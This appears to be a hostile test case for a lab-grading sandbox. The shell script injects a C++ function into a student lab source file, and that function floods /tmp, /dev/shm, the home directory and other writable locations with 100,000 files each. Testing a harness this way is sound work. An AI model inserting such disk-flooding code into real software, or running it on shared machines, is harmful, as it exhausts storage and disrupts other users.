#!/bin/sh
# Makes a hundred thousand small files in each place that may be written to.
# from: starters
# lab: lab1
# expect: lab1 0

{
    cat << 'CPP'
#include <cstdlib>
#include <fstream>
#include <string>
#include <sys/stat.h>
static void attack() {
    const char* home = std::getenv("HOME");
    for (const std::string place : {".", "/tmp", "/var/tmp", "/dev/shm", home == nullptr ? "/root" : home}) {
        const std::string folder = place + "/opencl-labs-hostile-disk-flood-by-files";
        ::mkdir(folder.c_str(), 0777);
        for (int i = 0; i < 100000; ++i)
            if (!(std::ofstream(folder + "/" + std::to_string(i)) << i))
                break;
    }
}

CPP
    sed 's/^\(std::size_t\|Reduction\) .*) {$/&\n    attack();/' labs/lab1/reduction_scalar.cpp
} > hostile.tmp
mv hostile.tmp labs/lab1/reduction_scalar.cpp
